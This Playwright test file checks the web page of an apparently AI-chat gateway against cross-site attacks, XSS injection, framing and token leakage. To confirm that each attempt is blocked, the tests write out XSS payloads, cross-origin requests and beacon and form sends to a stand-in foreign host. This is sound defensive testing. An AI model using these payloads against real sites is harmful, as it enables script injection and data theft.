import assert from "node:assert/strict";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { after, before, describe } from "node:test";
import type { Browser, Page } from "playwright-core";
import { openChromium, pageTest, withPage, withWorker } from "../../support/worlds/http/chromium.js";
import { type Backend, startBackend } from "../../support/worlds/http/web-gateway.js";
import { withoutChromium } from "../../support/worlds/needs.js";

/** One red dot. */
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8Dwn4EIwDiqkL4KAcT9GO0U4BxoAAAAAElFTkSuQmCC",
  "base64",
);

/** What a browser says about a thing that it was kept from. */
const refusals =
  /Content Security Policy|Trusted|TrustedHTML|violates|403|401|Refused|blocked|WebSocket|ERR_|Failed to load/i;

/** Everything that the browser keeps of what is not sent yet. */
/** All that is in one of the page's databases, each of its stores with its name. */
const storedIn = (name: string): string => `new Promise((resolve) => {
  const opening = indexedDB.open("${name}");
  opening.onsuccess = () => {
    const stores = [...opening.result.objectStoreNames];
    const reading = stores.map((name) => new Promise((done) => {
      const all = opening.result.transaction(name).objectStore(name).getAll();
      all.onsuccess = () => done([name, all.result]);
    }));
    resolve(Promise.all(reading));
  };
})`;

const cachedPaths = `caches.keys()
  .then((names) => Promise.all(names.map(async (name) => (await caches.open(name)).keys())))
  .then((all) => all.flat().map(({ url }) => new URL(url).pathname).join(" "))`;

describe("the web page against other sites, files and itself", { timeout: 120_000, skip: withoutChromium() }, () => {
  let browser: Browser;
  let open: Backend;
  let guarded: Backend;
  let elsewhere: Server;
  /** Of a site that has nothing to do with the gateway; what it is asked for. */
  let foreign = "";
  const visits: string[] = [];

  before(async () => {
    browser = await openChromium();
    [open, guarded] = await Promise.all([startBackend(), startBackend({ token: "page-token" })]);
    writeFileSync(join(guarded.home, "workspace", "dot.png"), png);
    writeFileSync(join(guarded.home, "workspace", "report.html"), "<script>window.hacked = true</script>");
    elsewhere = createServer((request, response) => {
      visits.push(request.url ?? "");
      response.setHeader("content-type", "text/html").end("<!doctype html><title>elsewhere</title><body></body>");
    });
    elsewhere.listen(0, "127.0.0.1");
    await once(elsewhere, "listening");
    const address = elsewhere.address();
    foreign = `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}/`;
  });
  after(async () => {
    await browser?.close();
    elsewhere?.close();
    await Promise.all([open?.stop(), guarded?.stop()]);
  });

  pageTest("another site can neither frame nor read the gateway, nor make it do anything", async () => {
    const target = new URL(open.url).origin;
    await withPage(
      browser,
      foreign,
      async (page) => {
        const answered: Record<string, number> = {};
        page.on("response", (response) => {
          const url = new URL(response.url());
          const key = `${response.request().method()} ${url.pathname}${url.search}`;
          if (url.origin === target) answered[key] = response.status();
        });
        const outcome = await page.evaluate<Record<string, unknown>>(attacksOf(target));
        assert.deepEqual(outcome, {
          read: "TypeError",
          postText: "TypeError",
          postJson: "TypeError",
          upload: "TypeError",
          remove: "TypeError",
          image: "error",
          script: "error",
          stream: "error",
          socket: "error",
          frame: "closed to others",
          apiFrame: "closed to others",
        });
        for (const [what, status] of Object.entries(answered)) {
          if (what === "GET /") continue;
          assert.ok([403, 415, 426].includes(status), `${what}: ${status}`);
        }
        const { sessions } = (await (await fetch(`${open.url}api/sessions`)).json()) as { sessions: unknown[] };
        assert.deepEqual(sessions, []);
        const [popup] = await Promise.all([
          page.waitForEvent("popup"),
          page.evaluate(`void (window.opened = window.open("${open.url}"))`),
        ]);
        await popup.getByLabel("Message", { exact: true }).waitFor();
        assert.equal(await page.evaluate("window.opened.closed"), true, "the opener has lost its hold of the page");
        assert.equal(await popup.evaluate("window.opener"), null);
      },
      { expected: refusals },
    );
  });

  pageTest("nothing that gets into the page could run, load from elsewhere, send a form or frame a site", () =>
    withWorker(
      browser,
      open.url,
      async (page) => {
        await page.getByLabel("Message", { exact: true }).waitFor();
        visits.length = 0;
        const outcome = await page.evaluate<Record<string, unknown>>(intrusionsOf(foreign));
        assert.deepEqual(outcome, {
          html: "TypeError",
          outer: "TypeError",
          inserted: "TypeError",
          inlineScript: "TypeError",
          foreignScript: "TypeError",
          handler: "not run",
          policy: "TypeError",
          worker: "TypeError",
          serviceWorker: "TypeError",
          image: "error",
          fetched: "TypeError",
          beacon: "kept out",
          frame: "kept out",
          base: "kept out",
          form: "kept out",
          style: "kept out",
        });
        assert.deepEqual(visits, []);
        assert.equal(await page.evaluate("window.hacked"), undefined);
      },
      { expected: refusals },
    ),
  );

  pageTest("the page is made of its own files, which bring no source maps and name no other host", async () => {
    const page = await (await fetch(open.url)).text();
    const names = [...page.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, name = ""]) => name);
    assert.ok(names.length >= 3 && names.every((name) => name.startsWith("./")), names.join());
    for (const name of names.filter((each) => /\.(js|css)$/.test(each))) {
      const file = await fetch(new URL(name, open.url));
      assert.equal(file.status, 200, name);
      assert.doesNotMatch(await file.text(), /sourceMappingURL/, name);
      assert.equal((await fetch(new URL(`${name}.map`, open.url))).status, 404, name);
    }
  });

  pageTest("the token is in no address that the page asks for, in no cookie and in no lasting store", () =>
    withWorker(
      browser,
      guarded.url,
      async (page) => {
        await write(page, "greet me");
        await page.locator(".message.assistant .markdown").filter({ hasText: "friend" }).waitFor();
        const kept = "JSON.stringify([Object.entries(localStorage), document.cookie, location.href, history.state])";
        assert.doesNotMatch(String(await page.evaluate(kept)), /page-token|cGFnZS10b2tlbg/);
        const cookies = await page.context().cookies();
        assert.equal(cookies.length, 1);
        assert.ok(cookies.every(({ httpOnly, sameSite }) => httpOnly && sameSite === "Strict"));
        assert.doesNotMatch(JSON.stringify(cookies), /page-token|cGFnZS10b2tlbg/);
        assert.equal(await page.evaluate("Object.keys(sessionStorage).length"), 0);
        // The worker keeps the page's own files, and nothing that the gateway says.
        await page.evaluate("navigator.serviceWorker.ready.then(() => true)");
        const files = String(await page.evaluate(cachedPaths)).split(" ");
        assert.ok(
          files.length > 3 && files.every((path) => /^\/(?:$|assets\/|icons\/|[\w.-]+$)/.test(path)),
          files.join(" "),
        );
        // What is not sent yet, and the chats that were seen.
        const databases = "indexedDB.databases().then((all) => all.map(({ name }) => name).sort().join())";
        assert.equal(await page.evaluate(databases), "maxclaw /,maxclaw seen /");
        assert.doesNotMatch(
          JSON.stringify(await page.evaluate(storedIn("maxclaw seen /"))),
          /page-token|cGFnZS10b2tlbg/,
        );
        assert.deepEqual(await page.evaluate(storedIn("maxclaw /")), [
          ["drafts", []],
          ["messages", []],
        ]);
      },
      {
        token: "page-token",
        expected: /401/,
        onPage(page) {
          page.on("request", (request) => assert.doesNotMatch(request.url(), /token/));
          page.on("websocket", (socket) => assert.doesNotMatch(socket.url(), /token|\?/));
        },
      },
    ),
  );

  pageTest("a file is bytes without a type that runs, and a picture a picture, whatever their names say", () =>
    withPage(
      browser,
      guarded.url,
      async (page) => {
        await write(page, "show me");
        await page.locator(".message.assistant .markdown").filter({ hasText: "That was all." }).waitFor();
        await page.waitForFunction("document.querySelector('.file-picture').naturalWidth === 1");
        const report = page.locator(".message.file").filter({ hasText: "report.html" });
        const saved = page.waitForEvent("download");
        await report.getByRole("button", { name: "Save" }).click();
        assert.equal((await saved).suggestedFilename(), "report.html");
        assert.deepEqual(await page.evaluate("window.made"), ["image/png", "application/octet-stream"]);
      },
      {
        token: "page-token",
        expected: /401/,
        onPage: (page) =>
          page.addInitScript(`window.made = [];
            const make = URL.createObjectURL;
            URL.createObjectURL = (blob) => (window.made.push(blob.type), make.call(URL, blob));`),
      },
    ),
  );

  pageTest(
    "a token that counts no longer takes all that was said out of sight, and the next one brings it back",
    () => {
      let isRevoked = false;
      let cut = (): unknown => undefined;
      return withPage(
        browser,
        guarded.url,
        async (page) => {
          await write(page, "greet me");
          const answer = page.locator(".message.assistant .markdown").filter({ hasText: "friend" });
          await answer.waitFor();
          await page.locator(".session-open").first().waitFor();
          await page.getByLabel("Message", { exact: true }).fill("not sent yet");
          isRevoked = true;
          cut();
          const dialog = page.getByRole("dialog");
          await dialog.waitFor();
          assert.equal(await page.locator(".message, .session-open").count(), 0);
          assert.doesNotMatch(await page.evaluate<string>("document.documentElement.outerHTML"), /friend|greet me/);
          assert.equal(await page.getByLabel("Message", { exact: true }).inputValue(), "");
          isRevoked = false;
          await dialog.getByRole("textbox", { name: "Token" }).fill("page-token");
          await dialog.getByRole("button", { name: "Connect" }).click();
          await answer.waitFor();
          await page.locator(".session-open").first().waitFor();
          assert.equal(await page.getByLabel("Message", { exact: true }).inputValue(), "not sent yet");
        },
        {
          token: "page-token",
          expected: /401|WebSocket/,
          async onPage(page) {
            const refusal = { status: 401, json: { error: "no", code: "unauthorized" } };
            await page.route("**/api/status", (route) => (isRevoked ? route.fulfill(refusal) : route.continue()));
            await page.routeWebSocket(/\/ws/, (socket) => {
              if (isRevoked) return void socket.close();
              socket.connectToServer();
              cut = () => socket.close({ code: 1012 });
            });
          },
        },
      );
    },
  );

  pageTest(
    "signing out leaves neither the token nor a word in the tab; without a token there is nothing to sign out of",
    async () => {
      await withPage(
        browser,
        guarded.url,
        async (page) => {
          await write(page, "greet me");
          await page.locator(".message.assistant .markdown").filter({ hasText: "friend" }).waitFor();
          await page.getByRole("button", { name: "Sign out" }).click();
          await page.getByRole("dialog").waitFor();
          assert.doesNotMatch(await page.evaluate<string>("document.documentElement.outerHTML"), /friend|greet me/);
          assert.equal(await page.evaluate("JSON.stringify([{ ...sessionStorage }, location.hash])"), '[{},""]');
        },
        { token: "page-token", expected: /401/ },
      );
      await withPage(browser, open.url, async (page) => {
        await page.getByLabel("Message", { exact: true }).waitFor();
        assert.equal(await page.getByRole("button", { name: "Sign out" }).count(), 0);
      });
    },
  );
});

/** What a page of another site can try on the gateway, each with its result. */
function attacksOf(target: string): string {
  return `(async () => {
    const nameOf = (work) => work.then((value) => value.type ?? value, (error) => error.name);
    const body = '{"content":"hi"}';
    const json = { "content-type": "application/json" };
    const loaded = (element) => new Promise((resolve) => {
      element.onload = () => resolve("loaded");
      element.onerror = () => resolve("error");
      document.body.append(element);
    });
    const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
    const framed = async (src) => {
      const frame = make("iframe", { src });
      await loaded(frame);
      try { return frame.contentDocument.title || "readable"; } catch { return "closed to others"; }
    };
    const opened = (source) => new Promise((resolve) => {
      source.onopen = () => resolve("open");
      source.onerror = () => resolve("error");
    });
    const target = ${JSON.stringify(target)};
    return {
      read: await nameOf(fetch(target + "/api/sessions")),
      postText: await nameOf(fetch(target + "/api/message", { method: "POST", mode: "no-cors", body })),
      postJson: await nameOf(fetch(target + "/api/message", { method: "POST", headers: json, body })),
      upload: await nameOf(fetch(target + "/api/upload", { method: "POST", headers: { "x-filename": "a" }, body })),
      remove: await nameOf(fetch(target + "/api/sessions/webui:1", { method: "DELETE" })),
      image: await loaded(make("img", { src: target + "/favicon.svg" })),
      script: await loaded(make("script", { src: target + "/api/status" })),
      stream: await opened(new EventSource(target + "/api/sessions/webui:1/stream")),
      socket: await opened(new WebSocket(target.replace("http", "ws") + "/ws")),
      frame: await framed(target + "/"),
      apiFrame: await framed(target + "/api/status"),
    };
  })()`;
}

/** What markup or a script that somehow got into the page would try. */
function intrusionsOf(foreign: string): string {
  return `(async () => {
    const foreign = ${JSON.stringify(foreign)};
    const thrown = (work) => { try { work(); return "done"; } catch (error) { return error.name; } };
    const blocked = new Set();
    document.addEventListener("securitypolicyviolation", (event) => blocked.add(event.effectiveDirective));
    const keptOut = async (directive, work) => {
      blocked.delete(directive);
      try { await work(); } catch {}
      for (let i = 0; i < 100 && !blocked.has(directive); i++) await new Promise((resolve) => setTimeout(resolve, 10));
      return blocked.has(directive) ? "kept out" : "done";
    };
    const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
    const box = document.createElement("div");
    document.body.append(box);
    const button = document.createElement("button");
    document.body.append(button);
    const outcome = {
      html: thrown(() => { box.innerHTML = "<img src=x onerror='window.hacked = 1'>"; }),
      outer: thrown(() => { box.outerHTML = "<b>x</b>"; }),
      inserted: thrown(() => box.insertAdjacentHTML("beforeend", "<b>x</b>")),
      inlineScript: thrown(() => document.body.append(make("script", { textContent: "window.hacked = 1" }))),
      foreignScript: thrown(() => document.body.append(make("script", { src: foreign + "x.js" }))),
      handler: (thrown(() => button.setAttribute("onclick", "window.hacked = 1")), button.click(), window.hacked ? "run" : "not run"),
      policy: thrown(() => trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
      worker: thrown(() => new Worker("assets/x.js")),
      serviceWorker: await navigator.serviceWorker.register("x.js").then(() => "done", (error) => error.name),
      image: await new Promise((resolve) => {
        const image = make("img", { onload: () => resolve("loaded"), onerror: () => resolve("error") });
        image.src = foreign + "pixel.png";
      }),
      fetched: await fetch(foreign + "fetched", { mode: "no-cors" }).then(() => "done", (error) => error.name),
      beacon: await keptOut("connect-src", () => navigator.sendBeacon(foreign + "beacon", "secret")),
      frame: await keptOut("frame-src", () => document.body.append(make("iframe", { src: foreign + "frame" }))),
      base: await keptOut("base-uri", () => document.head.append(make("base", { href: foreign }))),
      form: await keptOut("form-action", () => {
        const form = make("form", { action: foreign + "form", method: "post" });
        document.body.append(form);
        form.submit();
      }),
      style: await keptOut("style-src-elem", () => document.head.append(make("link", { rel: "stylesheet", href: foreign + "x.css" }))),
    };
    return outcome;
  })()`;
}

async function write(page: Page, text: string): Promise<void> {
  const composer = page.getByLabel("Message", { exact: true });
  await composer.fill(text);
  await composer.press("Enter");
}
